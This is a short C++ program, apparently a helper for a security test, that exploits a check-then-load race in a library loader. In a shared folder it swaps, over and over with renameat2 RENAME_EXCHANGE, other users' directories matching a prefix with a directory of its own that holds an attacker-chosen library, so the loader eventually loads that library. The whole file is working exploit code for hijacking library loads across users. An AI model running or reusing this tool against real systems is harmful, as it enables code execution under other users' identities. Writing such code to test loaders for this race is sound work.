// Usage: flip_folders FOLDER PREFIX LIBRARY FILE-NAME
// Another user in a folder where the loader keeps copies: every folder of another user there
// whose name starts with PREFIX is exchanged, over and over, with one of this user's that
// holds LIBRARY as FILE-NAME, until standard input closes. A loader that checks a folder and
// then loads from it by path loads LIBRARY sooner or later.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <string>
#include <thread>

namespace {

// Even, so that each turn leaves the other user's folder where it was.
constexpr int kFlipsPerTurn = 256;

bool copyFile(const std::string& from, const std::string& to) {
  const int in = open(from.c_str(), O_RDONLY);
  const int out = open(to.c_str(), O_WRONLY | O_CREAT | O_EXCL, 0755);
  bool copied = in >= 0 && out >= 0;
  char buffer[65536];
  for (ssize_t count; copied && (count = read(in, buffer, sizeof buffer)) > 0;) {
    copied = write(out, buffer, count) == count;
  }
  if (in >= 0) close(in);
  if (out >= 0) close(out);
  return copied;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fputs("usage: flip_folders FOLDER PREFIX LIBRARY FILE-NAME\n", stderr);
    return 2;
  }
  const std::string folder = argv[1];
  const std::string prefix = argv[2];
  const std::string library = argv[3];
  const std::string fileName = argv[4];
  std::thread([] {
    char byte;
    while (read(0, &byte, 1) > 0) {
    }
    _exit(0);
  }).detach();
  umask(0);
  std::puts("flipping");
  std::fflush(stdout);
  for (;;) {
    DIR* entries = opendir(folder.c_str());
    if (entries == nullptr) {
      continue;
    }
    while (const dirent* entry = readdir(entries)) {
      const std::string name = entry->d_name;
      const std::string path = folder + "/" + name;
      struct stat status;
      if (name.compare(0, prefix.size(), prefix) != 0 || lstat(path.c_str(), &status) != 0 ||
          !S_ISDIR(status.st_mode) || status.st_uid == getuid()) {
        continue;
      }
      const std::string spare = folder + "/.spare-" + name;
      if (mkdir(spare.c_str(), 0777) == 0) {
        copyFile(library, spare + "/" + fileName);
      }
      for (int flip = 0; flip < kFlipsPerTurn; ++flip) {
        renameat2(AT_FDCWD, spare.c_str(), AT_FDCWD, path.c_str(), RENAME_EXCHANGE);
      }
    }
    closedir(entries);
  }
}
